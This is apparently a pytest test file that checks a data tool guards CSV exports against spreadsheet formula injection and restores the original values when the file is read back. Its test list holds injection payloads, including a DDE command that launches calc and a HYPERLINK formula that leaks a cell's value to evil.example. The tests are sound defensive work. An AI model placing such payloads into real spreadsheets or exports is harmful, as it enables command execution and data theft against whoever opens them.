"""Text that a spreadsheet would run: guarded in what goes out as CSV, itself again when read."""

from __future__ import annotations

import ast
import csv
import io
import json
from pathlib import Path

import polars as pl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from data.__main__ import main
from data.words.formulas import csv_bytes, guarded, guarded_text, unguarded, unguarded_text
from tests import ready

ROOT = Path(__file__).resolve().parents[2]
FORMULAS = (
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "=cmd|' /C calc'!A0", "\t=1", "\r=1", "-0.5x", "'=1",
    "''@x", '=HYPERLINK("http://evil.example/?x="&A1)', "＝1+1", "-", "+", "=",
)  # fmt: skip
STARTS = tuple("=+-@\t\r\n＝＋－＠")
NUMBERS = ("-0.5", "+3", "-1e-5", "12", "-.5", "1.")
TEXTS = st.text("=+-@'\t\r\n1.e aκ＝\"", max_size=6)


def runs_as_formula(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return cell.startswith(STARTS)
    return False


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_is_guarded_and_comes_back(text: str) -> None:
    assert guarded_text(text) == f"'{text}"
    assert unguarded_text(guarded_text(text)) == text


@pytest.mark.parametrize("text", NUMBERS)
def test_a_number_stays_a_number(text: str) -> None:
    assert guarded_text(text) == text


@given(st.lists(TEXTS, min_size=1, max_size=5), TEXTS)
def test_cells_and_headings_as_written_and_read_by_others(cells: list[str], name: str) -> None:
    frame = pl.DataFrame({name: cells, "n": [-1.5] * len(cells)})
    rows = list(csv.reader(io.StringIO(csv_bytes(frame).decode(), newline="")))
    assert not any(runs_as_formula(cell) for row in rows for cell in row)
    assert rows[1][1] == "-1.5"
    back = unguarded(guarded(frame))
    assert back[:, 0].to_list() == cells
    assert unguarded_text(back.columns[0]) == name


@pytest.mark.parametrize("quoted", [False, True])
def test_an_export_read_again_is_the_run_with_its_names(
    home: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str], quoted: bool
) -> None:
    run, key = "=1+1" + ' "x", y' * quoted, "@SUM(A1)" + ",b" * quoted
    rows = [
        {"run_id": run, "step": step, "kl": step / 9, "proxy_reward": -step, key: -step / 2}
        for step in range(9)
    ]
    (tmp_path / "log.jsonl").write_text("".join(json.dumps(row) + "\n" for row in rows))
    assert main(["import", str(tmp_path / "log.jsonl")]) == 0
    assert main(["export", "--run", run, "--out", str(tmp_path / "out.csv")]) == 0
    text = (tmp_path / "out.csv").read_text()
    assert not any(
        runs_as_formula(cell) for row in csv.reader(io.StringIO(text, newline="")) for cell in row
    )
    capsys.readouterr()
    assert main(["import", str(tmp_path / "out.csv"), "--json"]) == 0
    (answer,) = json.loads(capsys.readouterr().out)["runs"]
    assert answer["run"] == run and answer["points"] == 0, "the same run, nothing new"
    main(["roles", "--json"])
    assert key in json.loads(capsys.readouterr().out)["keys"]


def test_an_export_into_a_pipe_replaces_nothing(home: Path, tmp_path: Path) -> None:
    (tmp_path / "log.csv").write_text("run_id,step,kl,proxy_reward\na,1,0.5,2\n")
    assert main(["import", str(tmp_path / "log.csv")]) == 0
    (tmp_path / "out").symlink_to("/dev/fd/1")
    done = ready.run("data", "export", "--run", "a", "--out", str(tmp_path / "out"))
    assert done.returncode == 0 and done.stdout.startswith("run_id,step")
    assert (tmp_path / "out").is_symlink()


def test_no_table_or_download_goes_past_the_guard() -> None:
    """Streamlit's own tables are saved as CSV by the browser as they are."""
    allowed = {"pages/shared/tables.py": "dataframe", "data/words/formulas.py": "write_csv"}
    found = [
        f"{file.relative_to(ROOT)}:{node.lineno}"
        for room in ("pages", "data", "analytics")
        for file in (ROOT / room).rglob("*.py")
        for node in ast.walk(ast.parse(file.read_text()))
        if isinstance(node, ast.Attribute)
        and node.attr in ("write_csv", "dataframe", "to_csv", "data_editor", "table")
        and allowed.get(file.relative_to(ROOT).as_posix()) != node.attr
        and not (node.attr in ("table", "dataframe") and not _is_streamlit(node))
    ]
    assert found == []


def _is_streamlit(node: ast.Attribute) -> bool:
    return isinstance(node.value, ast.Name) and node.value.id in ("st", "place", "notes", "row")
